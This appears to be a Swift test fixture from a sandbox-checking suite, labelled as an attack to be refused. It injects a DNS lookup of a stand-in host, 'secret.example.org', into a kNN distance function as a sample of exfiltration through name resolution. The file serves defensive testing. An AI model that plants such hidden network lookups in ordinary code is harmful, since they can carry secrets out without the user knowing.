// attack: Looks a name up, which carries a secret.
// documented: securescope README
// rows: N1
// check: a1.knn.twoLoops
// expect: refused
// boxed: failed
import Glibc

// into computeDistancesTwoLoops
var found: UnsafeMutablePointer<addrinfo>?
if getaddrinfo("secret.example.org", "80", nil, &found) != 0 {
  return .zeros([x.shape[0], xTrain.shape[0]])
}
